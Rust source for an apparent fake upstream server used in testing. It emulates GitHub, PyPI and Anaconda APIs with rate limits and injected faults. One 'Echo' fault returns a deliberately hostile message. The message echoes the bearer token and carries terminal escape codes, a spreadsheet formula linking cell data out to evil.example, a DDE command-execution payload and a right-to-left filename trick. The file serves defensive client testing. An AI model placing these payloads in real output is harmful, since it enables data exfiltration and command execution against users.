//! The HTTP server: GitHub GraphQL and REST, PyPI, Anaconda and the
//! `/_fake/` control routes on one base URL.
//!
//! Every GitHub request passes the same gate, in GitHub's order: authentication,
//! the waits the fake told the token to observe (a request before one has
//! elapsed is counted as a violation), the secondary limit, injected faults,
//! then the primary budget. Every GitHub answer carries `x-ratelimit-*`.
//!
//! The file is long (about 900 lines) because every handler goes through the
//! same gate and per-request bookkeeping (`Ctx`); what does not need them lives
//! in `rest`, `pypi`, `anaconda`, `graphql` and `accounting`.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex, MutexGuard, RwLock, RwLockReadGuard, RwLockWriteGuard};
use std::time::Duration as StdDuration;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{Path, RawQuery, State as AxState};
use axum::http::{HeaderMap, HeaderValue, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use chrono::Utc;
use serde_json::{Value as Json, json};
use tokio::sync::oneshot;
use tokio::task::JoinHandle;

use crate::faults::{Faults, Hostile, Latency, count_objects};
use crate::graphql::{self, RateInfo};
use crate::push::{ChangeSpec, PushResult, PushSpec};
use crate::state::{Accounting, Budget, FaultAction, State, Tags};
use crate::util::fnv;
use crate::world::World;
use crate::{anaconda, pypi, rest};

/// State shared by all handlers.
#[derive(Debug)]
pub struct Shared {
    world: RwLock<World>,
    state: Mutex<State>,
    /// Base URL the server answers on (`http://127.0.0.1:PORT`).
    pub base_url: String,
}

impl Shared {
    /// Read the world.
    pub fn world(&self) -> RwLockReadGuard<'_, World> {
        self.world.read().unwrap_or_else(|e| e.into_inner())
    }

    /// Write the world.
    pub fn world_mut(&self) -> RwLockWriteGuard<'_, World> {
        self.world.write().unwrap_or_else(|e| e.into_inner())
    }

    /// Lock the mutable state.
    pub fn state(&self) -> MutexGuard<'_, State> {
        self.state.lock().unwrap_or_else(|e| e.into_inner())
    }
}

/// A running fake upstream.
#[derive(Debug)]
pub struct FakeServer {
    shared: Arc<Shared>,
    addr: SocketAddr,
    shutdown: Option<oneshot::Sender<()>>,
    task: Option<JoinHandle<()>>,
}

/// Start the fake on `addr` (port 0 picks a free port) and serve in the
/// background until [`FakeServer::shutdown`] or drop.
pub async fn start(world: World, addr: SocketAddr) -> anyhow::Result<FakeServer> {
    let listener = tokio::net::TcpListener::bind(addr).await?;
    let addr = listener.local_addr()?;
    let state = State::new(world.limits.clone(), world.faults.clone());
    let shared = Arc::new(Shared {
        world: RwLock::new(world),
        state: Mutex::new(state),
        base_url: format!("http://{addr}"),
    });
    let app = router(shared.clone());
    let (tx, rx) = oneshot::channel::<()>();
    let task = tokio::spawn(async move {
        let serve = axum::serve(listener, app).with_graceful_shutdown(async move {
            let _ = rx.await;
        });
        if let Err(e) = serve.await {
            tracing::error!(error = %e, "fake upstream stopped");
        }
    });
    Ok(FakeServer {
        shared,
        addr,
        shutdown: Some(tx),
        task: Some(task),
    })
}

impl FakeServer {
    /// `http://127.0.0.1:PORT`: the base of every upstream.
    pub fn base_url(&self) -> String {
        self.shared.base_url.clone()
    }

    /// The bound address.
    pub fn addr(&self) -> SocketAddr {
        self.addr
    }

    /// A copy of the world as it is now.
    pub fn world(&self) -> World {
        self.shared.world().clone()
    }

    /// Read the world without copying it.
    pub fn with_world<R>(&self, f: impl FnOnce(&World) -> R) -> R {
        f(&self.shared.world())
    }

    /// Change the world.
    pub fn with_world_mut<R>(&self, f: impl FnOnce(&mut World) -> R) -> R {
        f(&mut self.shared.world_mut())
    }

    /// Replace the faults in force.
    pub fn set_faults(&self, faults: Faults) {
        self.shared.state().set_faults(faults);
    }

    /// Add commits, stars and CI runs to a repo.
    pub fn push(&self, spec: &PushSpec) -> anyhow::Result<PushResult> {
        crate::push::push(&mut self.shared.world_mut(), spec)
    }

    /// Force-push, re-run workflow runs, yank PyPI releases.
    pub fn change(&self, spec: &ChangeSpec) -> anyhow::Result<PushResult> {
        crate::push::change(&mut self.shared.world_mut(), spec)
    }

    /// What the fake has counted so far.
    pub fn accounting(&self) -> Accounting {
        self.shared.state().accounting.clone()
    }

    /// Zero the accounting.
    pub fn reset_accounting(&self) {
        self.shared.state().reset_accounting();
    }

    /// Stop serving and wait for the server task.
    pub async fn shutdown(mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
        if let Some(task) = self.task.take() {
            let _ = task.await;
        }
    }
}

impl Drop for FakeServer {
    fn drop(&mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
    }
}

/// The router over shared state.
pub fn router(shared: Arc<Shared>) -> Router {
    Router::new()
        .route("/graphql", post(graphql_handler))
        .route("/rate_limit", get(rate_limit_handler))
        .route("/repos/{owner}/{repo}/actions/runs", get(runs_by_name))
        .route("/repositories/{id}/actions/runs", get(runs_by_id))
        .route("/pypi/{project}/json", get(pypi_project))
        .route("/pypi/{project}/{version}/json", get(pypi_release))
        .route("/package/{owner}/{name}", get(anaconda_package))
        .route("/package/{owner}/{name}/files", get(anaconda_files))
        .route(
            "/_fake/accounting",
            get(accounting_get).delete(accounting_reset),
        )
        .route("/_fake/faults", get(faults_get).post(faults_set))
        .route("/_fake/push", post(push_handler))
        .route("/_fake/change", post(change_handler))
        .route("/_fake/world", get(world_get))
        .fallback(not_found)
        .with_state(shared)
}

type Sh = AxState<Arc<Shared>>;

/// A JSON response with a status.
pub fn json_response(status: StatusCode, body: &Json) -> Response {
    json_text(status, body.to_string())
}

/// A response with JSON text (possibly deliberately malformed) as its body.
fn json_text(status: StatusCode, text: String) -> Response {
    let mut r = (status, text).into_response();
    r.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json; charset=utf-8"),
    );
    r
}

fn hv(v: impl ToString) -> HeaderValue {
    HeaderValue::from_str(&v.to_string()).unwrap_or_else(|_| HeaderValue::from_static(""))
}

/// A response whose body fails mid-flight: the client sees the connection drop.
fn dropped() -> Response {
    let stream = futures_util::stream::iter(vec![Err::<Bytes, std::io::Error>(
        std::io::Error::new(std::io::ErrorKind::ConnectionReset, "fault: dropped"),
    )]);
    let mut r = Response::new(Body::from_stream(stream));
    r.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json; charset=utf-8"),
    );
    r
}

/// The answer of a hostile upstream (see [`crate::faults::Hostile`]).
fn hostile(h: Hostile, route: &str, github: bool, token: Option<&str>) -> Response {
    let graphql = route == "graphql";
    let streamed = |stream: Body, length: Option<u64>| {
        let mut r = Response::new(stream);
        r.headers_mut().insert(
            header::CONTENT_TYPE,
            HeaderValue::from_static("application/json; charset=utf-8"),
        );
        if let Some(n) = length {
            r.headers_mut().insert(header::CONTENT_LENGTH, hv(n));
        }
        r
    };
    match h {
        Hostile::Malformed => json_text(StatusCode::OK, "{\"data\": {\"repo".into()),
        Hostile::DataNull => json_text(
            StatusCode::OK,
            if graphql { "{\"data\": null}" } else { "null" }.into(),
        ),
        Hostile::Empty => json_text(StatusCode::OK, "{}".into()),
        Hostile::Huge => {
            // 300 chunks of a megabyte of spaces inside a JSON string.
            let chunk = Bytes::from(vec![b' '; 1 << 20]);
            let stream = futures_util::stream::iter(
                std::iter::once(Bytes::from_static(b"{\"padding\": \""))
                    .chain(std::iter::repeat_n(chunk, 300))
                    .chain(std::iter::once(Bytes::from_static(b"\"}")))
                    .map(Ok::<Bytes, std::io::Error>),
            );
            streamed(Body::from_stream(stream), None)
        }
        Hostile::Trickle => {
            let stream = futures_util::stream::unfold(true, |first| async move {
                if !first {
                    tokio::time::sleep(StdDuration::from_millis(100)).await;
                }
                let piece = if first {
                    &b"{\"data\": "[..]
                } else {
                    &b" "[..]
                };
                Some((
                    Ok::<Bytes, std::io::Error>(Bytes::from_static(piece)),
                    false,
                ))
            });
            streamed(Body::from_stream(stream), Some(1 << 20))
        }
        Hostile::Endless => {
            let chunk = Bytes::from(vec![b' '; 64 << 10]);
            let stream = futures_util::stream::iter(
                std::iter::once(Bytes::from_static(b"{\"data\": \""))
                    .chain(std::iter::repeat(chunk))
                    .map(Ok::<Bytes, std::io::Error>),
            );
            streamed(Body::from_stream(stream), None)
        }
        Hostile::ExtremeWait => {
            let status = if graphql || !github {
                StatusCode::TOO_MANY_REQUESTS
            } else {
                StatusCode::FORBIDDEN
            };
            let mut r = json_response(
                status,
                &json!({"message": "API rate limit exceeded", "errors": [{"type": "RATE_LIMITED", "message": "rate limit"}]}),
            );
            let h = r.headers_mut();
            h.insert(header::RETRY_AFTER, hv(i64::MAX));
            h.insert("x-ratelimit-remaining", hv(0));
            h.insert("x-ratelimit-reset", hv(i64::MAX));
            r
        }
        Hostile::Echo => {
            let echoed = token.map_or(String::new(), |t| format!("bearer {t}"));
            let text = format!(
                "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}]8;;http://evil.example/\u{7}click\u{1b}]8;;\u{7} \
                 your authorization was: {echoed} =HYPERLINK(\"http://evil.example/?\"&A1) \
                 +cmd|' /C calc'!A0 @SUM(1) \u{202e}txt.exe"
            );
            json_response(StatusCode::BAD_GATEWAY, &json!({ "message": text }))
        }
    }
}

/// Cut a body in half so it no longer parses.
fn malformed(body: &str) -> String {
    let cut = body.len() / 2;
    let mut cut = cut.max(1).min(body.len());
    while !body.is_char_boundary(cut) {
        cut -= 1;
    }
    body[..cut].to_string()
}

/// A weak ETag over a body.
pub fn etag(body: &str) -> String {
    format!("W/\"{:016x}{:016x}\"", fnv(body, 1), fnv(body, 2))
}

/// Whether `if-none-match` matches `tag`.
pub fn etag_matches(headers: &HeaderMap, tag: &str) -> bool {
    let strip = |s: &str| s.trim().trim_start_matches("W/").to_string();
    headers
        .get(header::IF_NONE_MATCH)
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| {
            v.split(',')
                .any(|t| t.trim() == "*" || strip(t) == strip(tag))
        })
}

/// Per-request bookkeeping: route, token, tags, in-flight counts, latency
/// and status.
struct Ctx {
    shared: Arc<Shared>,
    route: &'static str,
    token: Option<String>,
    github: bool,
    tags: Tags,
    latency: Latency,
}

impl Ctx {
    fn new(
        shared: &Arc<Shared>,
        route: &'static str,
        token: Option<String>,
        github: bool,
        tags: Tags,
    ) -> Ctx {
        {
            let mut st = shared.state();
            st.accounting.arrive(route, token.as_deref(), &tags);
            if github {
                st.enter();
            }
        }
        Ctx {
            shared: shared.clone(),
            route,
            token,
            github,
            tags,
            latency: Latency::default(),
        }
    }

    /// Serve an answer after the latency it adds: `points` charged and
    /// `objects` in its body (see [`Latency::after`]).
    async fn done_after(&self, resp: Response, points: u64, objects: u64) -> Response {
        let ms = self.latency.after(points, objects);
        if ms > 0 {
            tokio::time::sleep(StdDuration::from_millis(ms)).await;
        }
        self.done(resp)
    }

    fn done(&self, resp: Response) -> Response {
        let status = resp.status().as_u16();
        self.shared
            .state()
            .count_status(self.route, self.token.as_deref(), status);
        resp
    }

    /// Apply the route's injected fault, after its latency; `Some` ends the request.
    async fn fault(&mut self) -> (Option<Response>, bool) {
        let (action, latency) = self.shared.state().route_fault(self.route);
        self.latency = latency;
        if latency.fixed_ms > 0 {
            tokio::time::sleep(StdDuration::from_millis(latency.fixed_ms)).await;
        }
        match action {
            FaultAction::None => (None, false),
            FaultAction::Malformed => (None, true),
            FaultAction::Drop => (Some(dropped()), false),
            FaultAction::Hostile(h) => (
                Some(hostile(h, self.route, self.github, self.token.as_deref())),
                false,
            ),
            FaultAction::Error(code) => {
                let status =
                    StatusCode::from_u16(code).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
                let body = if self.route == "graphql" {
                    json!({"data": null, "errors": [{"message": "We couldn't respond to your request in time. Sorry about that. Please try resubmitting your request and contact us if the problem persists."}]})
                } else if self.github {
                    json!({"message": "Server Error"})
                } else {
                    json!({"message": status.canonical_reason().unwrap_or("Error")})
                };
                (Some(json_response(status, &body)), false)
            }
        }
    }
}

impl Drop for Ctx {
    fn drop(&mut self) {
        let mut st = self.shared.state();
        st.accounting
            .leave(self.route, self.token.as_deref(), &self.tags);
        if self.github {
            st.leave();
        }
    }
}

fn bearer(headers: &HeaderMap) -> Option<String> {
    let v = headers.get(header::AUTHORIZATION)?.to_str().ok()?.trim();
    let (scheme, token) = v.split_once(' ')?;
    let scheme = scheme.to_ascii_lowercase();
    let token = token.trim();
    (matches!(scheme.as_str(), "bearer" | "token") && !token.is_empty()).then(|| token.to_string())
}

/// Add GitHub's rate-limit headers.
fn rate_headers(resp: &mut Response, b: &Budget, resource: &str) {
    let h = resp.headers_mut();
    h.insert("x-ratelimit-limit", hv(b.limit));
    h.insert("x-ratelimit-remaining", hv(b.remaining()));
    h.insert("x-ratelimit-used", hv(b.used));
    h.insert("x-ratelimit-reset", hv(b.reset_at.timestamp()));
    h.insert("x-ratelimit-resource", hv(resource));
    h.insert(
        "x-github-request-id",
        hv(format!(
            "FAKE:{:X}",
            fnv(&Utc::now().to_rfc3339(), 3) & 0xffff_ffff
        )),
    );
}

/// Outcome of the GitHub gate.
enum Gate {
    Pass(Ctx, String, bool),
    Stop(Response),
}

/// Authentication, waits, the secondary limit and injected faults, in that order.
async fn github_gate(
    shared: &Arc<Shared>,
    route: &'static str,
    headers: &HeaderMap,
    resource: &str,
    tags: Tags,
) -> Gate {
    let token = bearer(headers);
    let known = {
        let st = shared.state();
        token
            .as_ref()
            .is_some_and(|t| st.limits.tokens.is_empty() || st.limits.tokens.contains(t))
    };
    let mut ctx = Ctx::new(shared, route, token.clone().filter(|_| known), true, tags);
    let Some(token) = token else {
        let body = if route == "graphql" {
            json!({"message": "This endpoint requires you to be authenticated.", "documentation_url": "https://docs.github.com/graphql/guides/forming-calls-with-graphql#authenticating-with-graphql", "status": "401"})
        } else {
            json!({"message": "Requires authentication", "documentation_url": "https://docs.github.com/rest", "status": "401"})
        };
        let mut r = json_response(StatusCode::UNAUTHORIZED, &body);
        let anon = Budget {
            limit: 60,
            used: 0,
            reset_at: Utc::now() + chrono::Duration::hours(1),
        };
        rate_headers(&mut r, &anon, "core");
        return Gate::Stop(ctx.done(r));
    };
    if !known {
        let body = json!({"message": "Bad credentials", "documentation_url": "https://docs.github.com/rest", "status": "401"});
        return Gate::Stop(ctx.done(json_response(StatusCode::UNAUTHORIZED, &body)));
    }
    if headers.get(header::USER_AGENT).is_none() {
        let mut r = (
            StatusCode::FORBIDDEN,
            "Request forbidden by administrative rules. Please make sure your request has a User-Agent header (https://docs.github.com/en/rest/overview/resources-in-the-rest-api#user-agent-required). Check https://developer.github.com for other possible causes.\n",
        )
            .into_response();
        r.headers_mut()
            .insert(header::CONTENT_TYPE, HeaderValue::from_static("text/plain"));
        return Gate::Stop(ctx.done(r));
    }
    {
        let primary = (route != "rate_limit").then_some(resource);
        shared.state().check_holds(&token, route, primary);
    }
    let secondary = shared.state().secondary(&token);
    if let Some(secs) = secondary {
        let (status, gql_status) = {
            let st = shared.state();
            let s = st.faults.secondary.clone().unwrap_or_default();
            (s.status, s.graphql_status)
        };
        let code = if route == "graphql" {
            gql_status
        } else {
            status
        };
        let message = "You have exceeded a secondary rate limit. Please wait a few minutes before you try again. If you reach out to GitHub Support for help, please include the request ID.";
        let body = if route == "graphql" && code == 200 {
            json!({"errors": [{"type": "RATE_LIMITED", "message": message}]})
        } else {
            json!({"message": message, "documentation_url": "https://docs.github.com/free-pro-team@latest/rest/overview/rate-limits-for-the-rest-api#about-secondary-rate-limits"})
        };
        let mut r = json_response(
            StatusCode::from_u16(code).unwrap_or(StatusCode::FORBIDDEN),
            &body,
        );
        r.headers_mut().insert(header::RETRY_AFTER, hv(secs));
        let b = shared.state().budget(&token, resource);
        rate_headers(&mut r, &b, resource);
        shared
            .state()
            .counters(route, Some(&token), |c| c.secondary_limited += 1);
        return Gate::Stop(ctx.done(r));
    }
    let (stop, bad) = ctx.fault().await;
    if let Some(mut r) = stop {
        let b = shared.state().budget(&token, resource);
        rate_headers(&mut r, &b, resource);
        return Gate::Stop(ctx.done(r));
    }
    Gate::Pass(ctx, token, bad)
}

fn finish_body(resp_body: String, bad: bool) -> String {
    if bad {
        malformed(&resp_body)
    } else {
        resp_body
    }
}

async fn graphql_handler(AxState(shared): Sh, headers: HeaderMap, body: Bytes) -> Response {
    let req = serde_json::from_slice::<Json>(&body);
    let tags = match &req {
        Ok(v) => {
            let (operation, repo) = graphql::describe(v);
            Tags {
                operation: Some(operation),
                repo,
            }
        }
        Err(_) => Tags {
            operation: Some(graphql::INVALID_OPERATION.into()),
            repo: None,
        },
    };
    let (ctx, token, bad) = match github_gate(&shared, "graphql", &headers, "graphql", tags).await {
        Gate::Pass(c, t, b) => (c, t, b),
        Gate::Stop(r) => return r,
    };
    let req: Json = match req {
        Ok(v) => v,
        Err(e) => {
            let b = shared.state().budget(&token, "graphql");
            let mut r = json_response(
                StatusCode::BAD_REQUEST,
                &json!({"message": format!("Problems parsing JSON: {e}"), "documentation_url": "https://docs.github.com/graphql"}),
            );
            rate_headers(&mut r, &b, "graphql");
            return ctx.done(r);
        }
    };
    let query = req.get("query").and_then(Json::as_str).unwrap_or_default();
    let variables = req.get("variables");
    let op = req.get("operationName").and_then(Json::as_str);
    let schema = graphql::subset_schema();
    let mut charged = 0;
    let (status, out, budget) = match graphql::prepare(schema, query, variables, op) {
        Err(errors) => {
            let b = shared.state().budget(&token, "graphql");
            (StatusCode::OK, graphql::error_body(&errors), b)
        }
        Ok(p) => {
            let (exhausted, budget) = {
                let mut st = shared.state();
                let b = st.budget(&token, "graphql");
                if b.remaining() == 0 || (!p.dry_run && b.remaining() < p.cost) {
                    st.hold(&token, "graphql", b.reset_at);
                    st.counters("graphql", Some(&token), |c| c.rate_limited += 1);
                    (true, b)
                } else if p.dry_run {
                    (false, b)
                } else {
                    let b = st.charge(&token, "graphql", p.cost);
                    st.accounting.charge_points(&token, &ctx.tags, p.cost);
                    charged = p.cost;
                    (false, b)
                }
            };
            if exhausted {
                let new_style = shared
                    .state()
                    .faults
                    .exhaust
                    .as_ref()
                    .is_some_and(|e| e.new_style);
                let user = fnv(&token, 9) % 10_000_000;
                let body = if new_style {
                    json!({"errors": [{"type": "RATE_LIMIT", "code": "graphql_rate_limit", "message": format!("API rate limit already exceeded for user ID {user}.")}]})
                } else {
                    json!({"errors": [{"type": "RATE_LIMITED", "message": format!("API rate limit exceeded for user ID {user}.")}]})
                };
                let mut r = json_response(StatusCode::OK, &body);
                rate_headers(&mut r, &budget, "graphql");
                return ctx.done(r);
            }
            let rate = RateInfo {
                cost: p.cost,
                limit: budget.limit,
                remaining: budget.remaining(),
                used: budget.used,
                reset_at: budget.reset_at,
                node_count: p.node_count,
            };
            let out = graphql::execute(&p, &shared.world(), rate);
            (StatusCode::OK, out, budget)
        }
    };
    let objects = out.get("data").map_or(0, count_objects);
    let mut r = json_text(status, finish_body(out.to_string(), bad));
    rate_headers(&mut r, &budget, "graphql");
    ctx.done_after(r, charged, objects).await
}

async fn rate_limit_handler(AxState(shared): Sh, headers: HeaderMap) -> Response {
    let gate = github_gate(&shared, "rate_limit", &headers, "core", Tags::default()).await;
    let (ctx, token, bad) = match gate {
        Gate::Pass(c, t, b) => (c, t, b),
        Gate::Stop(r) => return r,
    };
    let (core, gql) = {
        let mut st = shared.state();
        (st.budget(&token, "core"), st.budget(&token, "graphql"))
    };
    let res = |b: &Budget, name: &str| json!({"limit": b.limit, "used": b.used, "remaining": b.remaining(), "reset": b.reset_at.timestamp(), "resource": name});
    let fixed = |limit: u64, name: &str| json!({"limit": limit, "used": 0, "remaining": limit, "reset": core.reset_at.timestamp(), "resource": name});
    let body = json!({
        "resources": {
            "core": res(&core, "core"),
            "search": fixed(30, "search"),
            "graphql": res(&gql, "graphql"),
            "integration_manifest": fixed(5000, "integration_manifest"),
            "code_search": fixed(10, "code_search"),
        },
        "rate": res(&core, "core"),
    });
    let mut r = json_text(StatusCode::OK, finish_body(body.to_string(), bad));
    rate_headers(&mut r, &core, "core");
    ctx.done(r)
}

async fn runs_by_name(
    AxState(shared): Sh,
    Path((owner, repo)): Path<(String, String)>,
    RawQuery(q): RawQuery,
    headers: HeaderMap,
) -> Response {
    runs(shared, rest::RepoKey::Name(owner, repo), q, headers).await
}

async fn runs_by_id(
    AxState(shared): Sh,
    Path(id): Path<u64>,
    RawQuery(q): RawQuery,
    headers: HeaderMap,
) -> Response {
    runs(shared, rest::RepoKey::Id(id), q, headers).await
}

async fn runs(
    shared: Arc<Shared>,
    key: rest::RepoKey,
    q: Option<String>,
    headers: HeaderMap,
) -> Response {
    let tags = Tags {
        operation: None,
        repo: Some(rest::repo_tag(&shared.world(), &key)),
    };
    let gate = github_gate(&shared, "actions_runs", &headers, "core", tags).await;
    let (ctx, token, bad) = match gate {
        Gate::Pass(c, t, b) => (c, t, b),
        Gate::Stop(r) => return r,
    };
    let budget = shared.state().budget(&token, "core");
    if budget.remaining() == 0 {
        let status = shared
            .state()
            .faults
            .exhaust
            .as_ref()
            .map_or(403, |e| e.status);
        let user = fnv(&token, 9) % 10_000_000;
        let body = json!({"message": format!("API rate limit exceeded for user ID {user}. If you reach out to GitHub Support for help, please include the request ID."), "documentation_url": "https://docs.github.com/rest/overview/rate-limits-for-the-rest-api", "status": status.to_string()});
        let mut r = json_response(
            StatusCode::from_u16(status).unwrap_or(StatusCode::FORBIDDEN),
            &body,
        );
        rate_headers(&mut r, &budget, "core");
        {
            let mut st = shared.state();
            st.hold(&token, "core", budget.reset_at);
            st.counters("actions_runs", Some(&token), |c| c.rate_limited += 1);
        }
        return ctx.done(r);
    }
    let answer = rest::workflow_runs(&shared.world(), &shared.base_url, &key, q.as_deref());
    let (status, body, extra) = match answer {
        rest::Answer::Ok { body, link } => (StatusCode::OK, body, link.map(|l| (header::LINK, l))),
        rest::Answer::Moved { body, location } => (
            StatusCode::MOVED_PERMANENTLY,
            body,
            Some((header::LOCATION, location)),
        ),
        rest::Answer::Status(code, body) => (code, body, None),
    };
    let text = body.to_string();
    let tag = etag(&text);
    if status == StatusCode::OK && etag_matches(&headers, &tag) {
        let mut r = StatusCode::NOT_MODIFIED.into_response();
        r.headers_mut().insert(header::ETAG, hv(&tag));
        rate_headers(&mut r, &budget, "core");
        {
            let mut st = shared.state();
            st.accounting.not_modified += 1;
            st.counters("actions_runs", Some(&token), |c| c.not_modified += 1);
            st.accounting
                .repo("actions_runs", &ctx.tags, |c| c.not_modified += 1);
        }
        return ctx.done(r);
    }
    let charged = {
        let mut st = shared.state();
        let b = st.charge(&token, "core", 1);
        st.accounting.rest_calls += 1;
        st.counters("actions_runs", Some(&token), |c| c.rest_calls += 1);
        st.accounting
            .repo("actions_runs", &ctx.tags, |c| c.rest_calls += 1);
        b
    };
    let objects = if status == StatusCode::OK {
        count_objects(&body)
    } else {
        0
    };
    let mut r = json_text(status, finish_body(text, bad && status == StatusCode::OK));
    if status == StatusCode::OK {
        r.headers_mut().insert(header::ETAG, hv(&tag));
    }
    if let Some((name, value)) = extra {
        r.headers_mut().insert(name, hv(value));
    }
    r.headers_mut().insert(
        "x-github-media-type",
        HeaderValue::from_static("github.v3; format=json"),
    );
    rate_headers(&mut r, &charged, "core");
    ctx.done_after(r, 0, objects).await
}

/// Serve a non-GitHub JSON answer with faults, ETag and 304.
async fn plain(
    shared: Arc<Shared>,
    route: &'static str,
    headers: HeaderMap,
    answer: rest::Answer,
) -> Response {
    let mut ctx = Ctx::new(&shared, route, None, false, Tags::default());
    let (stop, bad) = ctx.fault().await;
    if let Some(r) = stop {
        return ctx.done(r);
    }
    match answer {
        rest::Answer::Ok { body, link } => {
            let text = body.to_string();
            let tag = format!("\"{:016x}\"", fnv(&text, 5));
            if etag_matches(&headers, &tag) {
                let mut r = StatusCode::NOT_MODIFIED.into_response();
                r.headers_mut().insert(header::ETAG, hv(&tag));
                shared.state().accounting.not_modified += 1;
                shared
                    .state()
                    .counters(route, None, |c| c.not_modified += 1);
                return ctx.done(r);
            }
            let objects = count_objects(&body);
            let mut r = json_text(StatusCode::OK, finish_body(text, bad));
            r.headers_mut().insert(header::ETAG, hv(&tag));
            if let Some(l) = link {
                r.headers_mut().insert(header::LINK, hv(l));
            }
            if route == "pypi" {
                r.headers_mut()
                    .insert("x-pypi-last-serial", hv(fnv(&tag, 6) % 30_000_000));
                r.headers_mut().insert(
                    header::CACHE_CONTROL,
                    HeaderValue::from_static("max-age=900, public"),
                );
            }
            ctx.done_after(r, 0, objects).await
        }
        rest::Answer::Moved { body, location } => {
            let mut r = json_response(StatusCode::MOVED_PERMANENTLY, &body);
            r.headers_mut().insert(header::LOCATION, hv(location));
            ctx.done(r)
        }
        rest::Answer::Status(code, body) => ctx.done(json_response(code, &body)),
    }
}

async fn pypi_project(
    AxState(shared): Sh,
    Path(project): Path<String>,
    headers: HeaderMap,
) -> Response {
    let answer = pypi::project(&shared.world(), &shared.base_url, &project, None);
    plain(shared, "pypi", headers, answer).await
}

async fn pypi_release(
    AxState(shared): Sh,
    Path((project, version)): Path<(String, String)>,
    headers: HeaderMap,
) -> Response {
    let answer = pypi::project(&shared.world(), &shared.base_url, &project, Some(&version));
    plain(shared, "pypi", headers, answer).await
}

async fn anaconda_package(
    AxState(shared): Sh,
    Path((owner, name)): Path<(String, String)>,
    headers: HeaderMap,
) -> Response {
    let answer = anaconda::package(&shared.world(), &owner, &name, false);
    plain(shared, "anaconda", headers, answer).await
}

async fn anaconda_files(
    AxState(shared): Sh,
    Path((owner, name)): Path<(String, String)>,
    headers: HeaderMap,
) -> Response {
    let answer = anaconda::package(&shared.world(), &owner, &name, true);
    plain(shared, "anaconda", headers, answer).await
}

async fn accounting_get(AxState(shared): Sh) -> Response {
    let a = shared.state().accounting.clone();
    json_response(StatusCode::OK, &json!(a))
}

async fn accounting_reset(AxState(shared): Sh) -> Response {
    shared.state().reset_accounting();
    json_response(StatusCode::OK, &json!({"ok": true}))
}

async fn faults_get(AxState(shared): Sh) -> Response {
    let f = shared.state().faults.clone();
    json_response(StatusCode::OK, &json!(f))
}

async fn faults_set(AxState(shared): Sh, body: Bytes) -> Response {
    match serde_json::from_slice::<Faults>(&body) {
        Ok(f) => {
            shared.state().set_faults(f.clone());
            json_response(StatusCode::OK, &json!(f))
        }
        Err(e) => json_response(
            StatusCode::BAD_REQUEST,
            &json!({"message": format!("bad faults: {e}")}),
        ),
    }
}

async fn push_handler(AxState(shared): Sh, body: Bytes) -> Response {
    let spec: PushSpec = match serde_json::from_slice(&body) {
        Ok(s) => s,
        Err(e) => {
            return json_response(
                StatusCode::BAD_REQUEST,
                &json!({"message": format!("bad push: {e}")}),
            );
        }
    };
    let result = crate::push::push(&mut shared.world_mut(), &spec);
    push_answer(result)
}

async fn change_handler(AxState(shared): Sh, body: Bytes) -> Response {
    let spec: ChangeSpec = match serde_json::from_slice(&body) {
        Ok(s) => s,
        Err(e) => {
            return json_response(
                StatusCode::BAD_REQUEST,
                &json!({"message": format!("bad change: {e}")}),
            );
        }
    };
    let result = crate::push::change(&mut shared.world_mut(), &spec);
    push_answer(result)
}

/// 200 with the result; 404 for something unknown, 422 for the impossible.
fn push_answer(result: anyhow::Result<PushResult>) -> Response {
    match result {
        Ok(r) => json_response(StatusCode::OK, &json!(r)),
        Err(e) => {
            let message = e.to_string();
            let status = if message.starts_with("push: no ") {
                StatusCode::NOT_FOUND
            } else {
                StatusCode::UNPROCESSABLE_ENTITY
            };
            json_response(status, &json!({"message": message}))
        }
    }
}

async fn world_get(AxState(shared): Sh) -> Response {
    let text = serde_json::to_string(&*shared.world()).unwrap_or_default();
    let mut r = (StatusCode::OK, text).into_response();
    r.headers_mut().insert(
        header::CONTENT_TYPE,
        HeaderValue::from_static("application/json"),
    );
    r
}

async fn not_found() -> Response {
    json_response(
        StatusCode::NOT_FOUND,
        &json!({"message": "Not Found", "documentation_url": "https://docs.github.com/rest", "status": "404"}),
    )
}

/// Parse a raw query string into decoded pairs, in order.
pub fn query_pairs(q: Option<&str>) -> Vec<(String, String)> {
    q.map(|q| {
        q.split('&')
            .filter(|p| !p.is_empty())
            .map(|p| {
                let (k, v) = p.split_once('=').unwrap_or((p, ""));
                (pct_decode(k), pct_decode(v))
            })
            .collect()
    })
    .unwrap_or_default()
}

fn pct_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'+' => out.push(b' '),
            b'%' if i + 2 < bytes.len() => {
                let hex = std::str::from_utf8(&bytes[i + 1..i + 3]).unwrap_or("zz");
                match u8::from_str_radix(hex, 16) {
                    Ok(b) => {
                        out.push(b);
                        i += 2;
                    }
                    Err(_) => out.push(b'%'),
                }
            }
            b => out.push(b),
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Percent-encode a query component.
pub fn pct_encode(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// A map view of query pairs (last one wins).
pub fn query_map(pairs: &[(String, String)]) -> HashMap<String, String> {
    pairs.iter().cloned().collect()
}
